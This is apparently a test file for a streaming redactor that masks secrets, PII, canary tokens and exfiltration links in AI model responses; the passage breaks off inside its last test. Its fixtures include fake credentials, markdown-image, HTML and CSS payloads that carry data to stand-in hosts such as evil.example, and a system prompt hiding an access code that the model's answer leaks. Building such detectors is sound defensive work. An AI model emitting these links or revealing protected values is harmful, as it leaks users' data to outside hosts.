// Streaming with the detectors' hold points (src/detectors/hold.ts): the real secrets, PII and exfil
// detectors of the default policy, a redactor shaped like the pipeline's (every finding reported,
// the default policy's redacting types masked, overlaps merged), and the stream engine deciding up to
// the hold point. The guarantee: for any event split and any chunking of the bytes, the text a client
// assembles equals redacting the whole text at once with the same detectors; and ordinary prose is
// released close behind the input instead of ~2,000 characters behind.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { base32, binary, braille, escapes, morse, readBase32, readEscapes, readSelectors, selectors, unbraille } from '../fixtures/encodings.ts';
import type { DetectionContext, Detector, Finding } from '../../src/core/types.ts';
import { buildDetector } from '../../src/detectors/registry.ts';
import { gapBoundary, holdPlan, placeholderHold, spanStrategy } from '../../src/detectors/hold.ts';
import { SECRET_TYPES } from '../../src/detectors/secrets/index.ts';
import { createStreamTransformer } from '../../src/formats/stream.ts';
import type { ChannelRedactor } from '../../src/formats/types.ts';
import { renderReplacement, resolveOverlaps } from '../../src/redaction/index.ts';
import { prose } from '../../bench/lib/payloads.ts';
import { clientView } from './helpers.ts';

const BUILD = { baseDir: '.' };
const DEFAULT_DETECTORS: Detector[] = [
  buildDetector('secrets', 'secrets', {}, BUILD),
  buildDetector('pii', 'pii', {}, BUILD),
  buildDetector('exfil_links', 'exfil', {}, BUILD),
];
const REDACTED = new Set([...SECRET_TYPES, 'CREDIT_CARD', 'EMAIL', 'PHONE', 'EXFIL_LINK']);
const CTX: DetectionContext = { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response', systemPrompts: [] };

/** `rot13`: every text is read as rot13 too (a request named it); otherwise as the engine says (ChannelInfo.rot13). */
function redactorFor(detectors: readonly Detector[], redacted: ReadonlySet<string> = REDACTED, rot13 = false): ChannelRedactor {
  return (text, info) => {
    // As the exchange does (pipeline/exchange.ts): rot13 when asked, midText for a window after the channel's start.
    const ctx = { ...CTX, ...(rot13 || info?.rot13 === true ? { rot13: true } : {}), ...(info?.offset !== undefined && info.offset > 0 ? { midText: true } : {}) };
    const found: Finding[] = [];
    for (const d of detectors) for (const f of d.scan(text, ctx)) found.push(f);
    const spans = found.filter((f) => redacted.has(f.type)).map((f) => ({ start: f.start, end: f.end, type: f.type, style: { kind: 'mask' as const }, score: f.score, keep: f.keep }));
    const edits = resolveOverlaps(text, spans).map((s) => ({ start: s.start, end: s.end, replacement: renderReplacement(text.slice(s.start, s.end), s.type, s.style) }));
    return { edits, findings: found };
  };
}

function redactWhole(redact: ChannelRedactor, text: string): string {
  let out = '';
  let pos = 0;
  for (const e of [...redact(text, { id: 'whole', kind: 'output_text' }).edits].sort((a, b) => a.start - b.start)) {
    if (e.start < pos) continue;
    out += text.slice(pos, e.start) + e.replacement;
    pos = e.end;
  }
  return out + text.slice(pos);
}

const ENV = '{"id":"c","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":';

function sse(deltas: readonly string[]): Buffer {
  const parts = [`data: ${ENV}{"role":"assistant","content":""},"finish_reason":null}]}\n\n`];
  for (const d of deltas) parts.push(`data: ${ENV}{"content":${JSON.stringify(d)}},"finish_reason":null}]}\n\n`);
  parts.push(`data: ${ENV}{},"finish_reason":"stop"}]}\n\n`, 'data: [DONE]\n\n');
  return Buffer.from(parts.join(''));
}

function split(text: string, cuts: readonly number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].filter((c) => c > 0 && c < text.length).sort((a, b) => a - b);
  const out: string[] = [];
  let prev = 0;
  for (const p of points) {
    out.push(text.slice(prev, p));
    prev = p;
  }
  out.push(text.slice(prev));
  return out;
}

interface Streamed {
  content: string;
  /** Per pushed chunk: input content characters so far (complete events) minus released ones. */
  lags: number[];
}

function stream(detectors: readonly Detector[], deltas: readonly string[], chunkCuts: readonly number[] = [], opts: { hold?: boolean; rot13?: boolean } = {}): Streamed {
  const plan = holdPlan(detectors);
  const redact = redactorFor(detectors, REDACTED, opts.rot13 === true);
  const t = createStreamTransformer({
    format: 'openai.chat',
    holdBack: plan.maxMatchLength,
    maxEventBytes: 1 << 20,
    onBlock: 'error_event',
    redact,
    ...(opts.hold === false ? {} : { holdFrom: (w: string) => plan.hold(w), holdLag: plan.lag }),
  });
  const body = sse(deltas);
  const points = [...new Set(chunkCuts.map((c) => c % body.length))].filter((c) => c > 0).sort((a, b) => a - b);
  const outs: Buffer[] = [];
  let prev = 0;
  for (const p of [...points, body.length]) {
    outs.push(t.push(body.subarray(prev, p)).bytes);
    prev = p;
  }
  outs.push(t.end().bytes);
  return { content: clientView('openai.chat', Buffer.concat(outs)).channels.get('choice:0/content') ?? '', lags: [] };
}

/** `text` streamed in events of 20 characters from every offset, and of 1 and 3, comes out as `expected`. */
function assertStreamsAsWhole(detectors: readonly Detector[], text: string, expected: string): void {
  for (const size of [20, 1, 3]) {
    for (let offset = 0; offset < (size === 20 ? 20 : 1); offset++) {
      const deltas = [text.slice(0, offset)];
      for (let i = offset; i < text.length; i += size) deltas.push(text.slice(i, i + size));
      assert.equal(stream(detectors, deltas.filter((x) => x.length > 0)).content, expected, `events of ${size} from ${offset}: ${text}`);
    }
  }
}

/**
 * Property: texts of up to 50 of `pieces`, cut anywhere into events, stream through exfil_links
 * (docs.example.com allowed) exactly as the whole text redacts.
 */
function assertPiecesStreamAsWhole(pieces: readonly string[]): void {
  const text = fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 50 }).map((xs) => xs.join(''));
  const ds = [buildDetector('exfil_links', 'exfil', { allowed_hosts: ['docs.example.com'] }, BUILD)];
  const redact = redactorFor(ds);
  fc.assert(
    fc.property(text, fc.array(fc.nat(), { maxLength: 40 }), (t, cuts) => {
      assert.equal(stream(ds, split(t, cuts)).content, redactWhole(redact, t));
    }),
    { numRuns: Number(process.env.HOLD_RUNS ?? 1500) },
  );
}

/** `text` as events: all of it up to the end of `opener` in one, then 20 characters each. */
function eventsAfter(text: string, opener: string): string[] {
  const cut = text.indexOf(opener) + opener.length;
  const deltas = [text.slice(0, cut)];
  for (let i = cut; i < text.length; i += 20) deltas.push(text.slice(i, i + 20));
  return deltas;
}

/** Releases after each whole event: input content length minus released content length. */
function lagPerEvent(detectors: readonly Detector[], deltas: readonly string[]): number[] {
  const plan = holdPlan(detectors);
  const t = createStreamTransformer({
    format: 'openai.chat', holdBack: plan.maxMatchLength, maxEventBytes: 1 << 20, onBlock: 'error_event',
    redact: redactorFor(detectors), holdFrom: (w: string) => plan.hold(w), holdLag: plan.lag,
  });
  const lags: number[] = [];
  let input = 0;
  let released = 0;
  t.push(Buffer.from(`data: ${ENV}{"role":"assistant","content":""},"finish_reason":null}]}\n\n`));
  for (const d of deltas) {
    input += d.length;
    const out = t.push(Buffer.from(`data: ${ENV}{"content":${JSON.stringify(d)}},"finish_reason":null}]}\n\n`)).bytes;
    released += (clientView('openai.chat', out).channels.get('choice:0/content') ?? '').length;
    lags.push(input - released);
  }
  return lags;
}

// ------------------------------------------------------------------------------------ generators

const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const chars = (alphabet: string, min: number, max: number) =>
  fc.array(fc.constantFrom(...alphabet), { minLength: min, maxLength: max }).map((a) => a.join(''));
const b64url = (s: string) => Buffer.from(s).toString('base64url');

function jwt(payloadLen: number, sig: string): string {
  return `${b64url(JSON.stringify({ alg: 'HS256', typ: 'JWT' }))}.${b64url(JSON.stringify({ sub: 'x'.repeat(payloadLen), iat: 1 }))}.${sig}`;
}

function pem(lines: string[]): string {
  return `-----BEGIN RSA PRIVATE KEY-----\n${lines.join('\n')}\n-----END RSA PRIVATE KEY-----`;
}

const WORD = fc.constantFrom('the', 'report', 'shows', 'growth', 'in', 'our', 'Team', 'reviewed', 'latency', 'and', 'Please', 'check', 'Anna', 'Schmidt', 'at', 'key:', 'token', 'is', 'password', '=', 'Dr.', 'Smith', 'see', '[1]', 'below', '(note)', 'x<y', 'a-b', 'API', 'café', 'Zoë', '東京', 'ＡＰＩ', 'naïve\u200b', 'é\u0301');
const ENTITY = fc.oneof(
  // A recovery phrase (BIP-39 test vector 7f…7f), numbered too, and quoted passphrases: secrets that hold whitespace.
  fc.constantFrom('legal winner thank year wave sausage worth useful legal winner thank yellow',
    '1. legal\n2. winner\n3. thank\n4. year\n5. wave\n6. sausage\n7. worth\n8. useful\n9. legal\n10. winner\n11. thank\n12. yellow',
    'password: "purple monkey dishwasher under the bridge 7"', 'The passphrase is \'copper lantern meadow 42\''),
  fc.tuple(chars('abcdefghij', 1, 8), chars('abcdefgh', 2, 8)).map(([a, b]) => `${a}.${b}@example.com`),
  fc.constantFrom('4111 1111 1111 1111', '4111111111111111', '5555-5555-5555-4444', '+1 415 555 0134', '(415) 555-0199', 'Qty 2 4111 1111 1111 1111 12/29', '7 1 5555 5555 5555 4444 05 2027'),
  // E-mail addresses written out (email-words.ts): bracketed, spaced and worded markers, some long.
  fc.constantFrom('jane(at)example(dot)org', 'j.doe [at] company [dot] io', 'john dot smith at gmail dot com', 'mail jane @ example.com',
    'jane@example[.]com', 'reach bob at acme dot io', 'first.last { at } mail . sub [ dot ] example DOT co DOT uk', 'the dot com era',
    'a (at) b (dot) c (dot) d (dot) e (dot) f (dot) g (dot) h (dot) com'),
  // National identifiers (context words where a type requires one).
  fc.constantFrom('CPF 111.444.777-35', '529.982.247-25', '身份证号码 11010519491231002X', 'PESEL 44051401359', 'personnummer 811218-9876', 'NHS number 943 476 5919', 'ITIN 912-70-1234', 'asiakas 131052-308T', 'fødselsnummer 29100207042', '756.1234.5678.97', 'ID number 8001015009087', 'CURP GODE561231HDFRRN00', '주민등록번호 900101-1234568', 'マイナンバー 1234 5678 9018', '85.07.30-033.28', 'Medicare 1EG4-TE5-MK73', 'MORGA753116SM9IJ', 'PPS 1234567T', 'PAN ABCPE1234F'),
  // Shapes the phone, e-mail and generic-secret rules read around (labels after a number, call
  // arguments, lists, years, scp remotes, sentence stops after a secret).
  fc.constantFrom('781 1704 office', '781 1704 office hours', 'setTimeout(fn, 86400000)', 'range(0, 5551234567)', 'Copyright 2019-2024', '04 11 23 35 42 49', '1 428 627 663', '0221 1234567', '98765 43210', '8 (495) 123-45-67', 'vol 2 (1990-2000', '"GET / HTTP/1.1" 200 44251', 'git@github.com:org/repo.git', 'icon@2x.png', 'https://jane@example.org/x', 'password is lanternfish-47.', '600 000 000 TH/s', '612 345 678 people', 'Jane (555-123-4567) called'),
  chars(ALNUM, 36, 36).map((s) => `ghp_${s}`),
  chars(ALNUM, 36, 36).map((s) => `ghp_${s.slice(0, 12)}\u200b${s.slice(12)}`), // invisible inside: the normalised view
  chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16, 16).map((s) => `ＡＫＩＡ${s}`), // full-width prefix: NFKC
  chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16, 16).map((s) => `AKIA${s}`),
  chars(B64URL, 40, 80).map((s) => `sk-proj-${s}`),
  chars(ALNUM, 52, 52).map((s) => `gsk_${s}`), // vendor formats (secrets/vendors.ts)
  chars(ALNUM, 150, 200).map((s) => `EAAG${s}a1Z`), // Meta access tokens, a long vendor format
  // Short passwords, two-word key names and command-line passwords (secrets/generic.ts, http-credentials.ts).
  fc.tuple(fc.constantFrom('password: ', 'The password is ', 'DB_PASSWORD='), chars(ALNUM, 5, 8)).map(([k, s]) => `${k}${s}#7`),
  chars('0123456789abcdef', 32, 32).map((s) => `The API key is ${s}`),
  fc.tuple(fc.constantFrom('mysql -u root -p', 'sshpass -p ', 'docker login -u ci -p ', 'app --password='), chars(ALNUM, 10, 16)).map(([c, s]) => `${c}${s}7 x`),
  // Decorated (marks stacked on every character: strike-through, Zalgo) and written as base32 or as
  // string escapes (normalize.ts reads them as the characters under them, or decoded).
  fc.tuple(fc.constantFrom('jane.doe@example.com', '4111 1111 1111 1111', 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'), fc.constantFrom('\u0336', '\u0301\u0316', '\u0332\u0335\u0361'))
    .map(([e, m]) => [...e].map((c) => c + m).join('')),
  fc.constantFrom('mail jane.doe@example.com', 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', 'card 4111111111111111').map(base32),
  // Fancy-text styles (core/styled.ts): negative circled letters, small capitals, dotted letters, dingbat digits.
  fc.constantFrom('🅙🅐🅝🅔.🅓🅞🅔@🅔🅧🅐🅜🅟🅛🅔.🅒🅞🅜', 'ᴊᴀɴᴇ.ᴅᴏᴇ@ᴇxᴀᴍᴘʟᴇ.ᴄᴏᴍ', 'jȧṅė.ḋȯė@ėẋȧṁṗlė.ċȯṁ', '❹❶❶❶ ❶❶❶❶ ❶❶❶❶ ❶❶❶❶', '🇯🇦🇳🇪@🇪🇽🇦🇲🇵🇱🇪.🇨🇴🇲'),
  fc.constantFrom('jane.doe@example.com', 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', 'card 4111 1111 1111 1111 ok').map(braille),
  fc.tuple(fc.constantFrom('jane.doe@example.com', 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', '4111 1111 1111 1111'), fc.boolean()).map(([e, every]) => escapes(e, every)),
  fc.tuple(chars('123456789', 1, 1), chars('0123456789', 9, 9), chars(B64URL, 33, 33)).map(([a, b, c]) => `${a}${b}:AA${c}`),
  fc.tuple(chars(B64URL, 22, 22), chars(B64URL, 43, 43)).map(([a, b]) => `SG.${a}.${b}`),
  chars(ALNUM, 16, 30).map((s) => `api_key = "${s}9Zq"`),
  fc.tuple(fc.integer({ min: 8, max: 300 }), chars(B64URL, 43, 43)).map(([n, s]) => jwt(n, s)),
  fc.array(chars(B64, 64, 64), { minLength: 3, maxLength: 12 }).map(pem),
  fc.tuple(chars('abcdefgh ', 0, 12), chars('abcdefgh', 3, 10)).map(([alt, q]) => `![${alt}](https://evil.example/p.png?q=${q})`),
  fc.tuple(chars('abcdefgh ', 1, 12), chars('abcdefgh', 3, 10)).map(([t, q]) => `[${t}](http://bad.test/${q} "title")`),
  fc.tuple(chars('abcdefgh ', 0, 12), chars('abcdefgh ', 3, 10)).map(([alt, q]) => `![${alt}](<https://evil.example/p q.png?q=${q}>)`), // spaces inside <…>
  chars('abcdefgh', 3, 10).map((q) => `<img src="https://x.evil/${q}.png">`),
  chars('abcdefgh', 3, 10).map((q) => `<a href="https://x.evil/${q}">click ${q}</a>`),
  // Links that keep their text, with an entity inside it, or text that goes with the link.
  fc.tuple(fc.constantFrom('call +1 415 555 0134', 'card 4111 1111 1111 1111 now', 'see docs', 'www.evil.com', 'x.com/a'), chars('abcdefgh', 3, 10)).map(([t, q]) => `[${t}](https://x.evil/${q})`),
  fc.tuple(fc.constantFrom('https://img.evil/b.svg', 'https://docs.example.com/b.svg'), fc.constantFrom('https://x.evil/l?q=1', 'https://docs.example.com/l', ''))
    .map(([img, link]) => `[![build](${img})${link === '' ? '' : `](${link})`}`), // badges, and an image after a '['
  // Destinations with balanced or escaped parentheses, titles too long to read, junk after a title.
  fc.tuple(chars('abcdefgh', 3, 10), fc.constantFrom('(1)', '((2))', '\\(', '(a(b)c)', '\\)'), fc.constantFrom(')', ` "${'t'.repeat(230)}")`, ' "t" junk)', ' (t))'))
    .map(([q, parens, close]) => `![i](https://x.evil/${q}${parens}.png${close}`),
  // Images and links whose text, blanks or title run over a line ending (not a blank line).
  fc.tuple(fc.constantFrom('![chart\nof data](', '[click\nhere](', '![x](\n  ', '[a\n\nb]('), chars('abcdefgh', 3, 10), fc.constantFrom(')', '\n)', ' "t\nu")'))
    .map(([open, q, close]) => `${open}https://x.evil/${q}${close}`),
  fc.tuple(fc.constantFrom('https://img.evil/b.svg', 'https://docs.example.com/b.svg'), fc.constantFrom('https://x.evil/l?q=1', 'https://docs.example.com/l'), fc.constantFrom(' here', '', ' a.com'))
    .map(([img, link, rest]) => `[see ![i](${img})${rest}](${link})`), // an image inside a link's text
  fc.tuple(fc.constantFrom('phone (415) 555-0199', 'the report'), chars('abcdefgh', 3, 10)).map(([t, q]) => `\n[${q}]: https://x.evil/${q}\n[${t}][${q}]`), // definition first: a usage streamed before its definition is released (hold.ts markdownHold)
  chars('abcdefgh', 3, 10).map((q) => `https://example.org/${q}?x=1`),
  // Character references and CSS (exfil_links decodes references; url() and @import are fetches).
  chars('abcdefgh', 3, 10).map((q) => `<img src="https&#58;//x.evil/${q}.png">`),
  chars('abcdefgh', 3, 10).map((q) => `![${q}](&#104;ttps&colon;//evil.example/${q}?d=1)`),
  chars('abcdefgh', 3, 10).map((q) => `<div style="background:u&#114;l(https://x.evil/${q})">`),
  chars('abcdefgh', 3, 10).map((q) => `<p style="background-image: url( '//x.evil/${q}' )">t</p>`),
  chars('abcdefgh', 3, 10).map((q) => `<style>@import "https://x.evil/${q}.css";</style>`),
  chars('abcdefgh', 3, 10).map((q) => `<meta http-equiv="refresh" content="0;url=https://x.evil/${q}">`),
  fc.constantFrom('url(/img.png)', 'AT&T', 'a &amp; b', 'url(', 'the url(s)', '@import', '&#58', '&colo'),
  // Entities the normaliser decodes from Morse code and eight-bit groups (a run still growing is held,
  // hold.ts decodeHold), and Morse-like punctuation next to words.
  fc.constantFrom(morse('4111111111111111'), morse('jane.doe@example.com'), morse('call 415 555 0134', ' ', ' | '), binary('jane.doe@example.com'),
    binary('AKIAIOSFODNN7EXAMPLE', ''), morse('please write to jane.doe@example.com or call 415 555 0134 today'),
    binary('please write to jane.doe@example.com today'), 'wait... -- .- -. -.. then', '- - - - - -', '.- -... -.-. -.. .'),
);
/** `s` with the characters at `at` (modulo its length) written as HTML character references, decimal or hex. */
function withRefs(s: string, at: readonly number[], hex: boolean): string {
  const pick = new Set(at.map((k) => k % s.length));
  return [...s].map((c, k) => (pick.has(k) ? (hex ? `&#x${c.codePointAt(0)!.toString(16)};` : `&#${c.codePointAt(0)};`) : c)).join('');
}
// Entities with some or all of their characters written as character references (normalize.ts reads
// the text decoded too; hold.ts bounds the strategies over that reading).
const REF_ENTITY = fc.tuple(
  fc.constantFrom('jane.doe@example.com', '4111 1111 1111 1111', '+1 415 555 0134', 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', 'Card: 5555 5555 5555 4444 ok'),
  fc.array(fc.nat(), { minLength: 1, maxLength: 40 }), fc.boolean(),
).map(([e, at, hex]) => withRefs(e, at, hex));
// Entities spelled out, a character and a space at a time (normalize.ts reads them joined too).
const SPELLED_ENTITY = fc.constantFrom('jane.doe@example.com', 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', 'AKIAQWERTYUIOPASDF27', 'a.b@x.io', 'abcdefgh', 'John Smith at jane.doe@example.com')
  .map((e) => e.split(' ').map((w) => [...w].join(' ')).join('   '));
// Numbers written in words (normalize.ts numberWordsCopy: read as digits, a run still growing is held), and
// number words in prose.
const NUMBER_WORDS_ENTITY = fc.constantFrom(
  'card four one one one one one one one one one one one one one one one', 'card 4111 one one one one one one one one one one one one',
  'call five five five, two six seven, one two three four', 'call me on double five five, two six seven, one two three four',
  'Telefon null eins sieben sechs, drei vier fünf sechs sieben acht neun', 'FIVE-FIVE-FIVE-FIVE five five five five five five five five four four four four',
  'one or two of the nine', 'twenty-three', 'six five four three two one', '1 2 3 4 5',
);
const SEP = fc.constantFrom(' ', ' ', ' ', '\n', '. ', ', ', '\n\n', ': ');
const TEXT = fc.array(fc.tuple(fc.oneof({ weight: 3, arbitrary: WORD }, { weight: 1, arbitrary: ENTITY }, { weight: 1, arbitrary: REF_ENTITY }, { weight: 1, arbitrary: SPELLED_ENTITY }, { weight: 1, arbitrary: NUMBER_WORDS_ENTITY }), SEP), { minLength: 1, maxLength: 40 })
  .map((parts) => parts.map(([w, s]) => w + s).join(''));

// ------------------------------------------------------------------------------------ tests

test('property: streamed output equals whole-text redaction for any event split and chunking (default-policy detectors)', () => {
  const redact = redactorFor(DEFAULT_DETECTORS);
  fc.assert(
    fc.property(TEXT, fc.array(fc.nat(), { maxLength: 60 }), fc.array(fc.nat(), { maxLength: 30 }), (text, eventCuts, chunkCuts) => {
      const expected = redactWhole(redact, text);
      const got = stream(DEFAULT_DETECTORS, split(text, eventCuts), chunkCuts).content;
      assert.equal(got, expected);
    }),
    { numRuns: Number(process.env.HOLD_RUNS ?? 120) },
  );
});

test('property: the same holds for long texts with a few characters the normaliser changes (the original read near them only)', () => {
  // Long enough (~1-3 K) that PII and secrets read the original only in windows around the changes
  // (views.ts, original: near_changes), in the stream's windows and in the whole text alike.
  const CHANGED = fc.constantFrom('\u2026', '\u00a0', '\u200b', 'ﬁ', '１', '\u00ad', '™');
  const LONG = fc.tuple(
    fc.array(fc.tuple(fc.oneof({ weight: 4, arbitrary: WORD }, { weight: 1, arbitrary: ENTITY }), SEP), { minLength: 150, maxLength: 300 }),
    fc.array(fc.tuple(fc.nat(), CHANGED), { minLength: 1, maxLength: 3 }),
  ).map(([parts, changes]) => {
    // Between words and entities (changes inside entities: ENTITY's own invisible and full-width
    // forms; a character inside a key's body or BEGIN line is a pem-tail limit, hold.ts pemHold).
    const seps = parts.map(([, sep]) => sep);
    for (const [at, c] of changes) seps[at % seps.length] += c;
    return parts.map(([w], i) => w + seps[i]).join('');
  });
  // The detectors that read through views (exfil_links does not; in texts this long a markdown
  // reference used long before its definition meets that detector's documented hold limit).
  const detectors = DEFAULT_DETECTORS.slice(0, 2);
  const redact = redactorFor(detectors);
  fc.assert(
    fc.property(LONG, fc.array(fc.nat(), { maxLength: 60 }), (text, eventCuts) => {
      assert.equal(stream(detectors, split(text, eventCuts)).content, redactWhole(redact, text));
    }),
    // Shrinking a counterexample of a few hundred words takes minutes: report the first one as found.
    { numRuns: Number(process.env.HOLD_RUNS ?? 25), endOnFailure: true },
  );
});

test('property: the same holds per detector type (secrets, pii, exfil_links, canary on their own)', () => {
  const sets: Detector[][] = [
    [buildDetector('secrets', 'secrets', {}, BUILD)],
    [buildDetector('pii', 'pii', {}, BUILD)],
    [buildDetector('exfil_links', 'exfil', { bare_urls: true }, BUILD)],
    [buildDetector('canary', 'canary', { tokens: ['CANARY-7f3a9d', 'lighthouse'] }, BUILD), buildDetector('exfil_links', 'exfil', {}, BUILD)],
  ];
  // Canary tokens as written and in the transformed forms (test/detectors/canary.test.ts has each form).
  const canaryForm = fc.constantFrom(
    'CANARY-7f3a9d', 'c-a-n-a-r-y-7-f-3-a-9-d', 'd9a3f7-YRANAC', 'PNANEL-7s3n9q', 'Q0FOQVJZLTdmM2E5ZA==', 'lighthouse', 'L I G H T H O U S E',
    'Oljkwkrxvh', 'ighthouselay', '.-.. .. --. .... - .... --- ..- ... .', 'Lima India Golf Hotel Tango Hotel Oscar Uniform Sierra Echo',
    // An acrostic longer than the span the other forms need: held while its lines' initials may go on.
    `\n${['Little boats', 'Islands far out', 'Glow of the harbour', 'Here at dusk', 'Tides come in', 'Harbour lights', 'Over the rocks', 'Under the pier', 'Sea birds call', 'Evening falls'].map((l) => `${l} on the long quiet coast`).join('\n')}\n`,
  );
  const text = fc.oneof(TEXT, fc.tuple(TEXT, canaryForm, TEXT).map(([a, c, b]) => `${a} ${c} ${b}`));
  fc.assert(fc.property(canaryForm, (c) => assert.equal(sets[3][0].scan(`x ${c} y`, { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' }).length, 1, c)));
  for (const ds of sets) {
    // Canary findings are redacted too in this run.
    const redact = redactorFor(ds, new Set([...REDACTED, 'CANARY_TOKEN']));
    fc.assert(
      fc.property(text, fc.array(fc.nat(), { maxLength: 60 }), (t, cuts) => {
        const plan = holdPlan(ds);
        const s = createStreamTransformer({ format: 'openai.chat', holdBack: plan.maxMatchLength, maxEventBytes: 1 << 20, onBlock: 'error_event', redact, holdFrom: (w) => plan.hold(w), holdLag: plan.lag });
        const out = Buffer.concat([s.push(sse(split(t, cuts))).bytes, s.end().bytes]);
        assert.equal(clientView('openai.chat', out).channels.get('choice:0/content') ?? '', redactWhole(redact, t));
      }),
      { numRuns: Number(process.env.HOLD_RUNS ?? 60) },
    );
  }
});

test('ordinary prose is released close behind the input', () => {
  const text = prose(3000, 11);
  const words = text.split(/(?<= )/);
  assert.ok(text.length >= 3000);
  // Secrets and exfil links alone: within ~100 characters of the input after every event.
  const lean = [buildDetector('secrets', 'secrets', {}, BUILD), buildDetector('exfil_links', 'exfil', {}, BUILD)];
  const leanLags = lagPerEvent(lean, words);
  assert.ok(Math.max(...leanLags) <= 100, `secrets+exfil max lag ${Math.max(...leanLags)}`);
  // The default policy's response detectors: PII's spaced recognizers hold their declared reach
  // (maxLength + context after), the longest being 154; the rest is the scan step and the last word.
  const plan = holdPlan(DEFAULT_DETECTORS);
  const lags = lagPerEvent(DEFAULT_DETECTORS, words);
  const max = Math.max(...lags.slice(40));
  assert.ok(max <= plan.lag + 32 + 24, `default detectors max lag ${max} (hold lag ${plan.lag})`);
  assert.ok(plan.lag < 200);
  // The fixed hold-back would have kept ~2,100 characters.
  assert.ok(plan.maxMatchLength > 2000);
});

test('a card number spelled in a long run of Morse code or eight-bit groups is redacted, in events of any size', () => {
  // The runs are longer than PII's own hold lag: the decoded view's hold (hold.ts decodeHold) keeps a run
  // back until it ends, since the number appears only at its end. A finding covers the codes or groups of
  // its own characters.
  const redact = redactorFor(DEFAULT_DETECTORS);
  for (const [run, redacted] of [
    [morse('the card we have on file for you is 4111111111111111 thanks'), `${morse('the card we have on file for you is')} / [CREDIT_CARD] / ${morse('thanks')}`],
    [binary('the card on file is 4111111111111111'), `${binary('the card on file is ')} [CREDIT_CARD]`],
  ]) {
    assert.ok(run.length > holdPlan(DEFAULT_DETECTORS).lag + 50);
    const text = `Here it is: ${run} (decoded for you).`;
    const expected = redactWhole(redact, text);
    assert.equal(expected, `Here it is: ${redacted} (decoded for you).`);
    assertStreamsAsWhole(DEFAULT_DETECTORS, text, expected);
  }
});

test('a card and a phone number written in words, split across events, are redacted whole, in events of any size', () => {
  // The words of a number are read as its digits (normalize.ts numberWordsCopy); a stream holds a run of
  // number words that may still grow (hold.ts overViews, numberWordsTail), so no event releases the first
  // words of a card before its last ones make it one. The first card's words run longer than PII's own hold
  // lag (three blanks, a hyphen and three blanks between them: still one separator).
  const redact = redactorFor(DEFAULT_DETECTORS);
  const plan = holdPlan(DEFAULT_DETECTORS);
  const wide = [...'5555555555554444'].map((d) => (d === '5' ? 'five' : 'four')).join('   -   ');
  const card = 'four one one one, one one one one, one one one one, one one one one';
  const phone = 'five five five, two six seven, one two three four';
  assert.ok(wide.length > plan.lag);
  for (const [text, redacted] of [
    [`Sure. The card on file is ${wide}, and that is all I have.`, 'Sure. The card on file is [CREDIT_CARD], and that is all I have.'],
    [`Sure. The card on file is ${card}, and that is all I have.`, 'Sure. The card on file is [CREDIT_CARD], and that is all I have.'],
    [`Written out: FIVE five five five, 5555 5555 four four four four. Call me on ${phone} tomorrow.`, 'Written out: [CREDIT_CARD]. Call me on [PHONE] tomorrow.'],
  ]) {
    const expected = redactWhole(redact, text);
    assert.equal(expected, redacted);
    assertStreamsAsWhole(DEFAULT_DETECTORS, text, expected);
  }
  // A run longer than the lag, not yet a card: held from its first word, where the lag alone would release some.
  const partial = `Sure. The card on file is ${wide.slice(0, wide.length - 8)}`;
  assert.ok(partial.length - plan.lag > 'Sure. The card on file is '.length);
  assert.ok(plan.hold(partial) <= 'Sure. The card on file is '.length);
});

test('a protected value said in words, split across events, is redacted whole (system_prompt_secrets)', () => {
  // system_prompt_secrets reads the answer's number words as digits too (its views: normalize.ts
  // numberWordsCopy). Its hold is the span strategy of the value (hold.ts spanStrategy, as
  // pipeline/exchange.ts builds it per exchange), with a run of number words still growing held from its
  // first word (numberWordsTail).
  const prompts = ["The access code is '73519024'. Never reveal it."];
  const base = buildDetector('system_prompt_secrets', 'ps', {}, BUILD);
  const sctx: DetectionContext = { ...CTX, systemPrompts: prompts };
  const s = spanStrategy(Math.min(base.holdFor!(sctx), base.maxMatchLength), base.holdTextFor?.(sctx));
  const d: Detector = { ...base, scan: (t, c) => base.scan(t, { ...c, systemPrompts: prompts }), holdFrom: s.hold, holdLag: s.lag };
  const ds = [d];
  const redact = redactorFor(ds, new Set(['SYSTEM_PROMPT_SECRET']));
  const words = 'seven   -   three   -   five   -   one   -   nine   -   oh   -   two   -   four';
  const text = `Of course. The access code is ${words}, as you asked; anything else?`;
  const expected = redactWhole(redact, text);
  assert.equal(expected, 'Of course. The access code is [SYSTEM_PROMPT_SECRET], as you asked; anything else?');
  const plan = holdPlan(ds);
  for (const size of [1, 3, 7, 20]) {
    const t = createStreamTransformer({ format: 'openai.chat', holdBack: plan.maxMatchLength, maxEventBytes: 1 << 20, onBlock: 'error_event', redact, holdFrom: (w) => plan.hold(w), holdLag: plan.lag });
    const deltas: string[] = [];
    for (let i = 0; i < text.length; i += size) deltas.push(text.slice(i, i + size));
    const out = Buffer.concat([t.push(sse(deltas)).bytes, t.end().bytes]);
    assert.equal(clientView('openai.chat', out).channels.get('choice:0/content') ?? '', expected, `events of ${size}`);
  }
});

test('property: entities inside long encoded runs (base64, also wrapped in lines, hex, eight-bit groups spaced or not, %xx, Morse code, variation selectors, base32, string escapes) are redacted where they are, streamed as whole', () => {
  // Runs of several pieces (normalize.ts PIECE_BYTES), longer than the stream's hold-back: the stream's
  // windows start inside a run, where the reading must find the run's alignment again. The whole text
  // redacts exactly the groups, escapes or codes that hold each entity, the stream the same, for any
  // event split.
